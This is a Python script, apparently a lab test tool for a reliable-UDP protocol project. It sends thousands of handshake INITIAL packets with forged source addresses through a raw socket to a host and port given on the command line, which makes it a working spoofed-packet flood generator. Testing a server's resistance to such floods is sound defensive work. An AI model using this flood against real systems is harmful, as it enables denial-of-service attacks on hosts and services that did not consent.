#!/usr/bin/env python3
"""Sends N reliable-UDP INITIALs (no token) from random spoofed sources in
198.51.100.0/24 to DST:PORT with a raw socket. Run it inside a lab namespace
only (udp_lab.py does). Usage: udp_flood.py DST PORT [N]"""
import os
import random
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def spoofed_initial(src, dst, sport, dport):
    # type 1, version 1, dcid, scid, token_len 0, noise_len 32, 32 bytes,
    # zero padding to 1200 (docs/PROTOCOL.md §8).
    body = bytes([1, 1]) + os.urandom(16) + bytes([0]) + struct.pack("!H", 32) + os.urandom(32)
    body += bytes(1200 - len(body))
    udp = struct.pack("!HHHH", sport, dport, 8 + len(body), 0) + body
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 64, 17,
                     0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp


def main():
    dst, port = sys.argv[1], int(sys.argv[2])
    n = int(sys.argv[3]) if len(sys.argv) > 3 else 20000
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    random.seed(7)
    for _ in range(n):
        src = "198.51.100.%d" % random.randint(1, 254)
        s.sendto(spoofed_initial(src, dst, random.randint(1024, 65535), port), (dst, 0))
    print("sent %d spoofed INITIALs" % n)


if __name__ == "__main__":
    main()
